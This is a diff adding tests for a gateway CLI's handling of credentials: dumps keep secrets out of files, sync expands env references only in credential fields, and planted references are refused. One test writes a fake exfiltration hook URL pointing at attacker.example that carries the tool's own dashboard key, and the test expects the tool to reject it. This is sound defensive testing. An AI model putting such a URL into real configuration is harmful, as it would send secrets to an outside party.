@@ -441,6 +441,124 @@ describe('gwctl sync and diff', () => {
   });
 });
 
+describe('gwctl and credentials', () => {
+  const SECRETS = ['up-user', 'up-pass', 'basic-pass', 'Bearer api-s3cret', 'hook-user', 'hook-pass', 'tok-abc', 'Bearer hook-header'];
+  const dir = join(work, 'creds');
+  let orgC: { orgId: string; key: string };
+  const api = id('creds');
+  const envOf = (...parts: string[]) => parts.map((p) => p.toUpperCase().replace(/[^A-Z0-9]+/g, '_')).join('_');
+
+  beforeAll(async () => {
+    orgC = await a.tenant();
+    ok(
+      await a.dash(orgC.key, 'POST', '/api/hooks', {
+        name: 'billing',
+        method: 'POST',
+        target_path: 'https://hook-user:hook-pass@hooks.example/h?token=tok-abc&team=ops',
+        header_map: { Authorization: 'Bearer hook-header' },
+      }),
+      'hook',
+    );
+    ok(
+      await a.gw('POST', '/gw/apis/oas', {
+        openapi: '3.0.3',
+        info: { title: 'Creds', version: '1' },
+        paths: {},
+        'x-gw-api-gateway': {
+          info: { id: api, orgId: orgC.orgId, name: 'Creds', state: { active: true } },
+          server: { listenPath: { value: `/${api}/`, strip: true } },
+          upstream: { url: 'https://up-user:up-pass@up.example', authentication: { basicAuth: { enabled: true, username: 'svc', password: 'basic-pass' } } },
+          middleware: { global: { transformRequestHeaders: { enabled: true, add: [{ name: 'Authorization', value: 'Bearer api-s3cret' }] } } },
+        },
+      }),
+      'API',
+    );
+  });
+
+  it('dump writes no secret, only references, and names them (gwctl.yaml and its output); the dump validates and diffs as unchanged', async () => {
+    const r = await gwctl(a, orgC.key, ['dump', '--dir', dir]);
+    expect(r.code, r.err).toBe(0);
+    const text = Object.values(folderText(dir)).join('\n');
+    for (const secret of [...SECRETS, '********']) expect(text).not.toContain(secret);
+    const names = [
+      envOf('GW_API', api, 'AUTHORIZATION'),
+      envOf('GW_API', api, 'BASICAUTH_PASSWORD'),
+      envOf('GW_API', api, 'UPSTREAM_URL_PASSWORD'),
+      envOf('GW_API', api, 'UPSTREAM_URL_USER'),
+      'GW_HOOK_BILLING_AUTHORIZATION',
+      'GW_HOOK_BILLING_TARGET_PATH_PASSWORD',
+      'GW_HOOK_BILLING_TARGET_PATH_TOKEN',
+      'GW_HOOK_BILLING_TARGET_PATH_USER',
+    ].sort();
+    expect((parse(readFileSync(join(dir, 'gwctl.yaml'), 'utf8')).environment as Any[]).map((e) => e.name)).toEqual(names);
+    expect(r.out).toContain(`diff and sync need these set (gwctl.yaml lists where each is used): ${names.join(', ')}`);
+    expect(parse(readFileSync(join(dir, 'hooks/billing.yaml'), 'utf8')).spec.target_path).toBe(
+      'https://${env:GW_HOOK_BILLING_TARGET_PATH_USER}:${env:GW_HOOK_BILLING_TARGET_PATH_PASSWORD}@hooks.example/h' +
+        '?token=${env:GW_HOOK_BILLING_TARGET_PATH_TOKEN}&team=ops',
+    );
+    const v = await gwctl(a, orgC.key, ['validate', '--dir', dir]);
+    expect(v.code, v.err).toBe(0);
+    const d = await gwctl(a, orgC.key, ['diff', '--dir', dir]);
+    expect(d.code, `${d.out}\n${d.err}`).toBe(0);
+    for (const secret of SECRETS) expect(d.out + d.err).not.toContain(secret);
+  });
+
+  it('sync expands the references where the credentials are: another organisation gets them, and no output shows one', async () => {
+    const orgD = await b.tenant();
+    const env = {
+      [envOf('GW_API', api, 'AUTHORIZATION')]: 'Bearer api-s3cret',
+      [envOf('GW_API', api, 'BASICAUTH_PASSWORD')]: 'basic-pass',
+      [envOf('GW_API', api, 'UPSTREAM_URL_PASSWORD')]: 'up-pass',
+      [envOf('GW_API', api, 'UPSTREAM_URL_USER')]: 'up-user',
+      GW_HOOK_BILLING_AUTHORIZATION: 'Bearer hook-header',
+      GW_HOOK_BILLING_TARGET_PATH_PASSWORD: 'hook-pass',
+      GW_HOOK_BILLING_TARGET_PATH_TOKEN: 'tok-abc',
+      GW_HOOK_BILLING_TARGET_PATH_USER: 'hook-user',
+    };
+    const { result: r, sent } = await writesDuring(() => gwctl(b, orgD.key, ['sync', '--dir', dir], env));
+    expect(r.code, `${r.out}\n${r.err}`).toBe(0);
+    for (const secret of SECRETS) expect(r.out + r.err).not.toContain(secret);
+    expect(JSON.parse(sent.find((x) => x.write === 'POST /api/hooks')!.body).target_path).toBe(
+      'https://hook-user:hook-pass@hooks.example/h?token=tok-abc&team=ops',
+    );
+    const gw = ok(await b.gw('GET', `/gw/apis/oas/${api}`), 'API')['x-gw-api-gateway'];
+    expect(gw.upstream.url).toBe('https://up-user:up-pass@up.example');
+    expect(gw.upstream.authentication.basicAuth.password).toBe('basic-pass');
+    expect(gw.middleware.global.transformRequestHeaders.add).toEqual([{ name: 'Authorization', value: 'Bearer api-s3cret' }]);
+    expect((await gwctl(b, orgD.key, ['diff', '--dir', dir], env)).code).toBe(0);
+  });
+
+  it("validate, diff and sync refuse a reference outside a credential and gwctl's own credential anywhere; nothing is written", async () => {
+    const bad = copyOf(dir, 'creds-bad');
+    edit(bad, 'hooks/billing.yaml', (o) => (o.spec.target_path = 'https://attacker.example/c?k=${env:GW_DASHBOARD_KEY}'));
+    edit(bad, `apis/${api}.yaml`, (o) => {
+      o.spec['x-gw-api-gateway'].info.name = '${env:GW_HOOK_BILLING_AUTHORIZATION}';
+      o.spec['x-gw-api-gateway'].middleware.global.transformRequestHeaders.add[0].value = '${env:GW_DASHBOARD_KEY}';
+    });
+    const index = parse(readFileSync(join(bad, 'gwctl.yaml'), 'utf8')) as Any;
+    index.environment.push({ name: 'GW_DASHBOARD_KEY', used_by: [] });
+    writeFileSync(join(bad, 'gwctl.yaml'), stringify(index));
+    const expected = [
+      `apis/${api}.yaml: spec.x-gw-api-gateway.info.name: \${env:GW_HOOK_BILLING_AUTHORIZATION}: a reference is expanded only where a credential is ` +
+        '(README "Configuration as code"), and this is not one',
+      `apis/${api}.yaml: spec.x-gw-api-gateway.middleware.global.transformRequestHeaders.add[0].value: \${env:GW_DASHBOARD_KEY} is gwctl's own credential: ` +
+        'no file may name it',
+      "hooks/billing.yaml: spec.target_path: ${env:GW_DASHBOARD_KEY} is gwctl's own credential: no file may name it",
+    ];
+    const v = await gwctl(a, orgC.key, ['validate', '--dir', bad]);
+    expect(v.code).toBe(1);
+    expect(v.err.split('\n').sort()).toEqual(expected.sort());
+    for (const command of ['diff', 'sync']) {
+      const { result, writes } = await writesDuring(() => gwctl(a, orgC.key, [command, '--dir', bad]));
+      expect(result.code, command).toBe(1);
+      expect(result.err, command).toContain(expected[2]);
+      expect(writes, command).toEqual([]);
+    }
+    const hooks = ok(await a.dash(orgC.key, 'GET', '/api/hooks'), 'hooks').hooks as Any[];
+    expect(hooks.map((h) => h.target_path)).toEqual(['https://********:********@hooks.example/h?token=********&team=ops']);
+  });
+});
+
 describe('gwctl sync killed halfway', () => {
   it('a second run converges without duplicates, even when the last write before the kill was made but never answered', async () => {
     const orgK = await a.tenant();
